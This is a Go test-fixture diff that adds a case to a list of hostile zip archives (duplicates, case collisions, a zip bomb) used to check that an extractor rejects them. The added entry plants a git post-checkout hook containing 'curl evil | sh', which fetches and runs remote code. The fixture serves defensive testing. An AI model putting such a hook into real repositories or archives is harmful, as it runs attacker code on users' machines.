@@ -68,6 +68,7 @@ func HostileZips(maxFiles int) []Hostile {
 		{"duplicate", "t/app.js", "appears twice", Build(File("t/app.js", "one"), File("t/app.js", "two"))},
 		{"case duplicate", "t/README.md", "differs only in case", Build(File("t/readme.md", "one"), File("t/README.md", "two"))},
 		{"file inside a file", "t/app.js/x", "which is a file", Build(File("t/app.js", "one"), File("t/app.js/x", "two"))},
+		{"git hooks", "t/.git/hooks/post-checkout", ".git folder", Build(File("t/app.js", "ok"), File("t/.git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n"))},
 		{"too many files", fmt.Sprintf("t/f%04d.txt", maxFiles), "more than", Build(many...)},
 		{"bomb", "t/zeros", "zip bomb", Build(Entry{Name: "t/zeros", Data: make([]byte, 8<<20)})},
 	}
